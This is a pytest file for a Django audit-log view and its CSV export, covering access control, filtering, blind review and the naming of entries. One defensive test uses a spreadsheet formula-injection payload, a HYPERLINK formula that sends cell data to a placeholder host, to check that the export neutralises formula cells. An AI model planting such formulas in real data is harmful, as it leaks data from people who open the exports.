import csv
import io

import pytest

from curation.reviews.services import review_record, review_recuse
from tests.curation.helpers import NO_UNDER_13, YES, make_item

pytestmark = pytest.mark.django_db


def export(client, query=""):
    response = client.get(f"/audit/export.csv{query}")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_administrators_filter_the_audit_log(personas, client):
    make_item(personas.investigator, external_reference="X")
    client.force_login(personas.admin)
    page = client.get("/audit/?action=submission.").content.decode()
    assert "submission.create" in page and "role.grant" not in page
    assert "submission.create" not in client.get("/audit/?action=role.").content.decode()
    assert client.get("/audit/?since=yesterday").status_code == 400


@pytest.mark.parametrize("user", ["investigator", "reviewer", "curator", "partner"])
def test_only_administrators_read_the_audit_log(personas, client, user):
    client.force_login(getattr(personas, user))
    assert client.get("/audit/").status_code == 403
    assert client.get("/audit/export.csv").status_code == 403


def test_the_export_respects_blind_review(personas, client):
    item = make_item(personas.investigator)
    review_record(actor=personas.reviewers[0], item=item, answers=dict(YES), comment="c")
    review_recuse(actor=personas.reviewers[1], item=item, reason="other")
    client.force_login(personas.admin)
    rows = export(client, f"?object_id={item.pk}")
    assert [r["action"] for r in rows] == ["submission.create"]  # no trace of the review or the recusal
    page = client.get(f"/audit/?object_id={item.pk}").content.decode()
    assert "review." not in page and "reviewer1" not in page
    review_record(actor=personas.reviewers[2], item=item, answers=dict(NO_UNDER_13))
    rows = export(client, f"?object_id={item.pk}")
    assert [r["action"] for r in rows] == ["submission.reject", "review.record", "review.recuse", "review.record",
                                           "submission.create"]
    assert rows[1]["actor"] == "reviewer3" and '"verdict": "disagree"' in rows[1]["details"]


def test_exports_are_audited_and_show_no_sequence_or_hashes(personas, client):
    client.force_login(personas.admin)
    rows = export(client)
    assert set(rows[0]) == {"created_at", "actor", "organisation", "action", "object_type", "object_id", "details"}
    from core.models import AuditEntry

    assert AuditEntry.objects.filter(action="audit.export", actor=personas.admin).count() == 1


def test_the_export_writes_formulas_as_text(personas, client):
    """An organisation named like a formula (`=HYPERLINK(...)`) is a link that leaks data when the
    export is opened in a spreadsheet; usernames may start with `@` or `-`. Such cells start with
    `'` in the export (issue 11 item 8); the rest of the row is as it was."""
    from accounts import services as accounts
    from core.actors import SYSTEM

    formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
    org = personas.admin.organisation
    accounts.organisation_update(actor=personas.admin, organisation=org, name=formula, country=org.country,
                                 kind=org.kind)
    user = accounts.user_create(actor=SYSTEM, username="@sum", email="s@example.org",
                                organisation=org, roles=[])
    accounts.user_email_digest_set(actor=user, user=user, on=False)
    client.force_login(personas.admin)
    rows = export(client, "?action=organisation.update")
    assert [row["organisation"] for row in rows] == ["'" + formula]
    assert formula.replace('"', '\\"') in rows[0]["details"] and rows[0]["details"].startswith("{")
    rows = export(client, f"?object_id={user.pk}&action=user.email_digest")
    assert [(row["actor"], row["organisation"]) for row in rows] == [("'@sum", "'" + formula)]


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("plain", "plain"), ("a=b", "a=b"), ("", ""), (None, ""), (42, "42"),
])
def test_formula_cells_are_prefixed_and_others_kept(value, shown):
    from core.spreadsheet import cell

    assert cell(value) == shown


def rows_of(page: str) -> list[str]:
    """The table's rows as their text, tags dropped, spaces folded."""
    import re

    body = page.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    return [" ".join(re.sub(r"<[^>]+>", " ", row).split()) for row in body.split("</tr>")[:-1]]


def test_entries_name_their_objects_and_show_details_as_fields(personas, client):
    """Issue 12 item 6: a user by username, an organisation by name, an item by its short id, a
    release by its version, each linked to its history; details as labelled fields, ids named."""
    from accounts import services as accounts
    from core.actors import SYSTEM
    from tests.curation.helpers import approved_item, publish

    org = personas.partner.organisation
    new = accounts.user_create(actor=SYSTEM, username="newcomer", email="n@example.org", organisation=org, roles=[])
    accounts.role_grant(actor=personas.admin, user=new, role="partner", reason="signed the agreement")
    item = approved_item(personas)
    release = publish()
    client.force_login(personas.admin)
    page = client.get("/audit/").content.decode()
    rows = rows_of(page)
    short = str(item.pk)[:8]
    [grant] = [r for r in rows if "role.grant" in r]
    assert "User newcomer" in grant and "Role partner" in grant and "Reason signed the agreement" in grant
    [created] = [r for r in rows if "user.create" in r and "newcomer" in r]
    assert "Organisation Example Networks" in created  # organisation_id named
    assert f'href="?object_type=accounts.user&amp;object_id={new.pk}"' in page
    assert f'href="?object_id={short}"' in page and f"Item {short}" in " ".join(rows)
    [published] = [r for r in rows if "release.publish" in r]
    assert f"Release v{release.version}" in published
    assert "{&#x27;" not in page and "{'" not in page  # no raw dictionaries


def test_an_items_history_by_its_short_id(personas, client):
    from tests.curation.helpers import approved_item

    item, other = approved_item(personas), make_item(personas.investigator)
    client.force_login(personas.admin)
    short = str(item.pk)[:8]
    for typed in (short, short.upper(), str(item.pk)):
        rows = rows_of(client.get(f"/audit/?object_id={typed}").content.decode())
        assert [r.split(" ")[2] for r in rows] == [  # the actor column, newest first
            "system", "reviewer3", "reviewer2", "reviewer1", "investigator"]
        assert len(rows) == 5 and all(short in r for r in rows) and not any(str(other.pk)[:8] in r for r in rows)
        assert "submission.approve" in rows[0] and "submission.create" in rows[-1]
    response = client.get("/audit/?object_id=3f2a")
    assert response.status_code == 400 and "at least the first 8 characters" in response.content.decode()


def test_the_actor_filter_takes_a_username(personas, client):
    make_item(personas.investigator)
    make_item(personas.colleague)
    client.force_login(personas.admin)
    rows = rows_of(client.get("/audit/?actor=colleague").content.decode())
    assert len(rows) == 1 and "colleague" in rows[0] and "submission.create" in rows[0]
    response = client.get("/audit/?actor=nobody&action=submission.")
    page = response.content.decode()
    assert response.status_code == 400 and "No user is called “nobody”." in page
    assert len(rows_of(page)) == 2  # the other filters still apply


def test_naming_costs_the_same_few_queries_for_a_long_page(personas, client, django_assert_max_num_queries):
    for _ in range(30):
        make_item(personas.investigator)
    client.force_login(personas.admin)
    with django_assert_max_num_queries(10):
        assert client.get("/audit/").status_code == 200
